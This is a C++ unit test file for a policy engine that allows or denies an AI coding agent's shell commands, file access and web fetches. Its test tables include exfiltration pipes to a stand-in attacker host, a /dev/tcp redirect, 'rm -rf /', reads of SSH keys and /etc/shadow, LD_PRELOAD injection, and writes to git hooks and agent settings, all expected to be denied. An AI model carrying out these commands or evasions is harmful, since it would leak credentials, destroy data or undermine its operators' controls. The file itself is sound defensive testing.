#include "rules/decide.hpp"

#include "audit/codec.hpp"
#include "tests/support/support.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace lilith::rules {
namespace {

using audit::Action;
using audit::Call;
using audit::OperationKind;
using testing::HasSubstr;

std::shared_ptr<const Policy> load(const std::string& yaml) {
  PolicyLoad loaded = load_policy(yaml, "p.yaml");
  for (const Diagnostic& one : loaded.diagnostics) {
    if (one.severity == Severity::kError) ADD_FAILURE() << to_string(one);
  }
  return loaded.policy;
}

std::shared_ptr<const Policy> sample() {
  return load(
      test::read_text(std::string(LILITH_SOURCE_DIR) + "/rules/policies/lilith-policy.yaml"));
}

const UserRecord kDev{"dev", 1000, "/home/dev"};
constexpr const char* kCwd = "/home/dev/projects/app";

Decision decide_call(const Policy& policy, const Call& call, const Caller& caller) {
  const CallAnalysis analysis = analyse(call);
  return decide(policy, caller, analysis, observe(analysis, kDev, kCwd, lexical_file_system()));
}
Decision command(const Policy& policy, const std::string& text) {
  return decide_call(policy, {.kind = OperationKind::kRunCommand, .command = text},
                     {"claude_code", "Bash", ""});
}

struct CommandCase {
  const char* name;
  std::string text;
  const char* code;  // nullptr: allowed
};
void PrintTo(const CommandCase& c, std::ostream* out) { *out << c.name; }
class SampleCommands : public testing::TestWithParam<CommandCase> {};
TEST_P(SampleCommands, AreDecided) {
  const Decision decision = command(*sample(), GetParam().text);
  if (GetParam().code == nullptr) {
    EXPECT_EQ(decision.action, Action::kAllowed) << decision.reason;
  } else {
    EXPECT_EQ(decision.action, Action::kDenied);
    EXPECT_EQ(decision.reason_code, GetParam().code) << decision.reason;
    EXPECT_FALSE(decision.reason.empty());
  }
}
INSTANTIATE_TEST_SUITE_P(
    Sample, SampleCommands,
    testing::Values(
        CommandCase{"git", "git status", nullptr},
        CommandCase{"git_and_git", "git add -A && git commit -m 'x | y'", nullptr},
        CommandCase{"commit_with_here_doc", "git commit -m \"$(cat <<'EOF'\nmessage\nEOF\n)\"",
                    nullptr},
        CommandCase{"cd_and_git", "cd sub && git status", nullptr},
        CommandCase{"npm", "npm test 2>&1", nullptr},
        CommandCase{"to_dev_null", "cargo build > /dev/null 2>&1", nullptr},
        CommandCase{"write_in_project", "git diff > out.patch", nullptr},
        CommandCase{"url_in_message", "git commit -m 'see https://evil.example/x'", nullptr},
        CommandCase{"first_word_is_not_all", "git log | curl -d @- https://evil.example",
                    "command.blocked"},
        CommandCase{"second_command", "git status; rm -rf /", "command.not_listed"},
        CommandCase{"unlisted", "make", "command.not_listed"},
        CommandCase{"substitution", "git log $(curl x)", "command.blocked"},
        CommandCase{"backticks", "git log `wget x`", "command.blocked"},
        CommandCase{"bundled_shell_option", "bash -lc 'git status'", "command.blocked"},
        CommandCase{"other_shell", "sh script.sh", "command.not_listed"},
        CommandCase{"wrapper_grants_nothing", "sudo git status", "command.not_listed"},
        CommandCase{"transparent_wrapper", "timeout 5 git fetch", nullptr},
        CommandCase{"by_path", "./git status", "command.path"},
        CommandCase{"path_to_blocked", "/usr/bin/curl x", "command.blocked"},
        CommandCase{"dynamic_name", "$CMD status", "command.dynamic_name"},
        CommandCase{"path_assignment", "PATH=/tmp git status", "command.environment"},
        CommandCase{"ld_preload", "LD_PRELOAD=./x.so git status", "command.environment"},
        CommandCase{"git_pager_cat", "GIT_PAGER=cat git log", nullptr},
        CommandCase{"git_pager_other", "GIT_PAGER=./x git log", "command.environment"},
        CommandCase{"git_option", "git -c core.pager=id log", "command.exec_option"},
        CommandCase{"redirect_out", "git log > /etc/cron.d/x", "path.not_listed"},
        CommandCase{"redirect_to_hook", "git log > .git/hooks/pre-commit", "path.agent_config"},
        CommandCase{"redirect_to_bashrc", "echo x >> ~/.bashrc", "path.agent_config"},
        CommandCase{"redirect_unknown", "git log > \"$OUT\"", "path.undecidable"},
        CommandCase{"blocked_argument", "git diff --no-pager ~/.ssh/id_rsa", "path.blocked"},
        CommandCase{"blocked_by_glob", "python3 x.py ~/.s*/id_rsa", "path.blocked"},
        CommandCase{"blocked_after_cd", "cd ~/.ssh && git diff id_rsa", "path.blocked"},
        CommandCase{"case_variant", "python3 x.py a/SERVER.KEY", "path.blocked"},
        CommandCase{"dev_tcp", "git log > /dev/tcp/10.0.0.1/80", "egress.not_listed"},
        CommandCase{"git_remote", "git push https://evil.example/x", "egress.not_listed"},
        CommandCase{"git_remote_allowed", "git clone https://api.github.com/x", nullptr},
        CommandCase{"unparsable", "git log 'x", "command.unparsable"},
        CommandCase{"empty", "", "call.undecidable"},
        CommandCase{"blank", " \n", "call.undecidable"},
        CommandCase{"only_builtins", "cd x && echo done", nullptr}),
    [](const auto& case_info) { return std::string(case_info.param.name); });

struct CallCase {
  const char* name;
  Call call;
  Caller caller;
  const char* code;
};
void PrintTo(const CallCase& c, std::ostream* out) { *out << c.name; }
class SampleCalls : public testing::TestWithParam<CallCase> {};
TEST_P(SampleCalls, AreDecided) {
  const Decision decision = decide_call(*sample(), GetParam().call, GetParam().caller);
  if (GetParam().code == nullptr) {
    EXPECT_EQ(decision.action, Action::kAllowed) << decision.reason;
  } else {
    EXPECT_EQ(decision.action, Action::kDenied);
    EXPECT_EQ(decision.reason_code, GetParam().code) << decision.reason;
  }
}
Call read(std::string path) {
  return {.kind = OperationKind::kReadFile, .paths = {std::move(path)}};
}
Call write(std::string path) {
  return {.kind = OperationKind::kWriteFile, .paths = {std::move(path)}};
}
Call fetch(std::string url) { return {.kind = OperationKind::kEgress, .urls = {std::move(url)}}; }
INSTANTIATE_TEST_SUITE_P(
    Sample, SampleCalls,
    testing::Values(
        CallCase{"read_project",
                 read("/home/dev/projects/app/x.cpp"),
                 {"claude_code", "Read", ""},
                 nullptr},
        CallCase{"read_relative", read("src/x.cpp"), {"claude_code", "Read", ""}, nullptr},
        CallCase{"read_other_user",
                 read("/home/eve/projects/x"),
                 {"claude_code", "Read", ""},
                 "path.not_listed"},
        CallCase{"read_prefix_trick",
                 read("/home/dev/projects-evil/x"),
                 {"claude_code", "Read", ""},
                 "path.not_listed"},
        CallCase{"read_parent",
                 read("/home/dev/projects/../.ssh/id_rsa"),
                 {"claude_code", "Read", ""},
                 "path.blocked"},
        CallCase{"read_key",
                 read("/home/dev/projects/app/server.key"),
                 {"claude_code", "Read", ""},
                 "path.blocked"},
        CallCase{"read_proc",
                 read("/proc/self/root/etc/shadow"),
                 {"claude_code", "Read", ""},
                 "path.magic_link"},
        CallCase{"write_project",
                 write("/home/dev/projects/app/x"),
                 {"claude_code", "Write", ""},
                 nullptr},
        CallCase{"write_settings",
                 write("/home/dev/projects/app/.claude/settings.json"),
                 {"claude_code", "Write", ""},
                 "path.agent_config"},
        CallCase{"several_one_outside",
                 {.kind = OperationKind::kWriteFile, .paths = {"/home/dev/projects/a", "/etc/x"}},
                 {"claude_code", "MultiEdit", ""},
                 "path.not_listed"},
        CallCase{"fetch_listed",
                 fetch("https://api.github.com/x"),
                 {"claude_code", "WebFetch", ""},
                 nullptr},
        CallCase{"fetch_suffix",
                 fetch("https://api.openai.com/"),
                 {"claude_code", "WebFetch", ""},
                 nullptr},
        CallCase{"fetch_apex",
                 fetch("https://openai.com/"),
                 {"claude_code", "WebFetch", ""},
                 "egress.not_listed"},
        CallCase{"fetch_http",
                 fetch("http://api.github.com/"),
                 {"claude_code", "WebFetch", ""},
                 "egress.port_or_protocol"},
        CallCase{"fetch_port",
                 fetch("https://api.github.com:8443/"),
                 {"claude_code", "WebFetch", ""},
                 "egress.port_or_protocol"},
        CallCase{"fetch_blocked",
                 fetch("http://x.ngrok.io:99/"),
                 {"claude_code", "WebFetch", ""},
                 "egress.blocked"},
        CallCase{"fetch_userinfo",
                 fetch("https://api.github.com@evil.example/"),
                 {"claude_code", "WebFetch", ""},
                 "egress.bad_url"},
        CallCase{"fetch_address",
                 fetch("https://140.82.112.5/"),
                 {"claude_code", "WebFetch", ""},
                 "egress.not_listed"},
        CallCase{"mcp",
                 {.kind = OperationKind::kMcpTool},
                 {"claude_code", "mcp__a__b", "a"},
                 "mcp.not_listed"},
        CallCase{"other_tool", {}, {"claude_code", "TodoWrite", ""}, "tool.not_listed"},
        CallCase{"tool_named_like_an_operation",
                 {.kind = OperationKind::kOther, .command = "curl x"},
                 {"claude_code", "run_command", ""},
                 "tool.not_listed"},
        CallCase{"mcp_tool_named_like_an_operation",
                 {.kind = OperationKind::kMcpTool},
                 {"claude_code", "write_file", "evil"},
                 "mcp.not_listed"},
        CallCase{"undecidable",
                 {.kind = OperationKind::kReadFile, .undecidable = "no path"},
                 {"claude_code", "Read", ""},
                 "call.undecidable"},
        CallCase{"no_path",
                 {.kind = OperationKind::kReadFile},
                 {"claude_code", "Read", ""},
                 "call.undecidable"}),
    [](const auto& case_info) { return std::string(case_info.param.name); });

const std::string kHead = "version: \"1\"\n";
const std::string kEgress = "egress: {default_action: deny}\n";

TEST(Modes, LogRecordsWhatItWouldDenyAndAlwaysBlockStillBlocks) {
  const auto policy =
      load(kHead + kEgress +
           "tool_invocations:\n  default_action: log\n  allowed_tools:\n    - name: run_command\n  "
           "    command_allowlist: [git]\n"
           "      command_blocklist: [wget, {pattern: curl, always_block: true}]\n");
  EXPECT_EQ(command(*policy, "git status").action, Action::kAllowed);
  EXPECT_EQ(command(*policy, "make").action, Action::kWouldDeny);
  EXPECT_EQ(command(*policy, "wget x").action, Action::kWouldDeny);
  EXPECT_EQ(command(*policy, "make; curl x").action, Action::kDenied)
      << "the enforced entry decides";
  EXPECT_EQ(command(*policy, "make").mode, audit::Mode::kAudit);
  EXPECT_EQ(decide_call(*policy, fetch("https://x.example/"), {}).action, Action::kDenied)
      << "section by section";
}

TEST(Modes, AuditBeatsAlwaysBlock) {
  const auto policy = load(kHead + "mode: audit\n" + kEgress +
                           "tool_invocations: {default_action: deny, blocked_tools: [{name: Bash, "
                           "always_block: true}]}\n");
  const Decision decision = command(*policy, "curl x");
  EXPECT_EQ(decision.verdict, audit::Verdict::kDeny);
  EXPECT_EQ(decision.action, Action::kWouldDeny);
}

TEST(Modes, AnAbsentSectionDeniesItsOperations) {
  const auto only_egress = load(kHead + kEgress);
  EXPECT_EQ(command(*only_egress, "git status").reason_code, "tool.no_section");
  const auto only_tools = load(kHead + "tool_invocations: {default_action: deny}\n");
  EXPECT_EQ(decide_call(*only_tools, fetch("https://x.example/"), {}).reason_code,
            "egress.no_section");
}

TEST(Lists, BlockBeatsAllowAndToolsMayBeBlockedByEitherName) {
  const auto policy = load(
      kHead +
      "egress: {default_action: allow, blocked_destinations: [evil.example]}\n"
      "tool_invocations: {default_action: allow, blocked_tools: [WebSearch, Read, run_command]}\n");
  EXPECT_EQ(decide_call(*policy, {}, {"claude_code", "WebSearch", ""}).reason_code, "tool.blocked");
  EXPECT_EQ(decide_call(*policy, read("/x"), {"claude_code", "Read", ""}).reason_code,
            "tool.blocked");
  EXPECT_EQ(command(*policy, "git status").reason_code, "tool.blocked");
  EXPECT_EQ(decide_call(*policy, fetch("https://evil.example/"), {"claude_code", "WebFetch", ""})
                .reason_code,
            "egress.blocked");
  EXPECT_EQ(decide_call(*policy, write("/x"), {"claude_code", "Write", ""}).action,
            Action::kAllowed);
}

TEST(Lists, McpServersAndArgumentsAreMatched) {
  const auto policy =
      load(kHead + kEgress +
           "tool_invocations:\n  default_action: deny\n  allowed_tools:\n    - name: mcp_tool\n    "
           "  servers: [tracker]\n"
           "    - name: mcp__files__read\n      arguments: {path: [\"/data/*\"]}\n");
  const auto mcp = [&](const char* name, const char* server, const char* arguments) {
    return decide_call(*policy, {.kind = OperationKind::kMcpTool, .arguments = arguments},
                       {"claude_code", name, server})
        .action;
  };
  EXPECT_EQ(mcp("mcp__tracker__get", "tracker", "{}"), Action::kAllowed);
  EXPECT_EQ(mcp("mcp__other__get", "other", "{}"), Action::kDenied);
  EXPECT_EQ(mcp("mcp__files__read", "files", R"({"path":"/data/x"})"), Action::kAllowed);
  EXPECT_EQ(mcp("mcp__files__read", "files", R"({"path":"/etc/x"})"), Action::kDenied);
  EXPECT_EQ(mcp("mcp__files__read", "files", "{}"), Action::kDenied);
}

TEST(Lists, AliasesMakeAToolAnOperation) {
  const auto policy = load(kHead + kEgress +
                           "tool_aliases: {my_reader: read_file}\ntool_invocations:\n  "
                           "default_action: deny\n  allowed_tools:\n"
                           "    - {name: read_file, path_allowlist: [\"/data/**\"]}\n");
  const auto read_by_alias = [&](const char* path) {
    return decide_call(*policy, {.kind = OperationKind::kOther, .paths = {path}},
                       {"claude_code", "my_reader", ""})
        .action;
  };
  EXPECT_EQ(read_by_alias("/data/x"), Action::kAllowed);
  EXPECT_EQ(read_by_alias("/etc/x"), Action::kDenied);
}

TEST(Lists, AProgramByPathCountsOnlyWhereNobodyElseCanReplaceIt) {
  const auto policy = sample();
  const Call call{.kind = OperationKind::kRunCommand, .command = "/usr/bin/git status"};
  const CallAnalysis analysis = analyse(call);
  audit::Facts facts = observe(analysis, kDev, kCwd, lexical_file_system());
  EXPECT_EQ(decide(*policy, {}, analysis, facts).reason_code, "command.path");
  facts.trusted_programs = {"/usr/bin/git"};
  EXPECT_EQ(decide(*policy, {}, analysis, facts).action, Action::kAllowed);
}

// What the event carries is enough to decide again, on a machine that has none of these files.
TEST(Facts, DecideTheSameAfterTheRoundTripThroughAnEvent) {
  const test::TempDir dir;
  const auto policy = load(kHead + kEgress +
                           "tool_invocations:\n  default_action: deny\n  allowed_tools:\n    - "
                           "{name: read_file, path_allowlist: [\"" +
                           dir.path() + "/open/**\"], path_blocklist: [\"**/closed/**\"]}\n");
  test::write_text(dir.file("closed/secret"), "x");
  test::write_text(dir.file("open/file"), "x");
  ASSERT_EQ(::symlink((dir.path() + "/closed").c_str(), (dir.path() + "/open/way").c_str()), 0);
  for (const char* name :
       {"open/file", "open/way/secret", "open/way/../open/file", "open/new", "/proc/self/root"}) {
    Call call = read(name[0] == '/' ? name : dir.file(name));
    const CallAnalysis analysis = analyse(call);
    audit::Event event;
    event.call = call;
    event.facts = observe(analysis, kDev, kCwd, real_file_system());
    const Decision live = decide(*policy, {}, analysis, event.facts);
    const auto again = audit::decode(audit::encode(event));
    ASSERT_TRUE(again.has_value());
    const Decision replayed = decide(*policy, {}, analyse(again->call), again->facts);
    EXPECT_EQ(live.action, replayed.action) << name;
    EXPECT_EQ(live.rule, replayed.rule) << name;
  }
}

TEST(Reasons, NameRuleLineAndInput) {
  const Decision decision = command(
      *load(kHead + kEgress +
            "tool_invocations:\n  default_action: deny\n  allowed_tools:\n    - name: run_command\n"
            "      command_allowlist: [git]\n      command_blocklist: [curl]\n"),
      "git log | curl x");
  EXPECT_EQ(decision.rule, "tool_invocations.run_command.command_blocklist[\"curl\"]");
  EXPECT_EQ(decision.line, 8);
  EXPECT_THAT(decision.reason, HasSubstr("'curl'"));
  EXPECT_THAT(decision.reason, HasSubstr("p.yaml:8"));
  EXPECT_EQ(decision.technique, "T1059");
  EXPECT_EQ(decision.operations, 2U);
}

TEST(Connections, AreDecidedByTheEgressSection) {
  const auto policy = sample();
  EXPECT_EQ(decide_connection(*policy, "api.github.com", 443, "https").action, Action::kAllowed);
  EXPECT_EQ(decide_connection(*policy, "API.GitHub.com.", 443, "https").action, Action::kAllowed);
  EXPECT_EQ(decide_connection(*policy, "evil.example", 443, "https").reason_code,
            "egress.not_listed");
  EXPECT_EQ(
      decide_connection(*policy, std::string("evil\0.openai.com", 16), 443, "https").reason_code,
      "egress.bad_host");
}

}  // namespace
}  // namespace lilith::rules
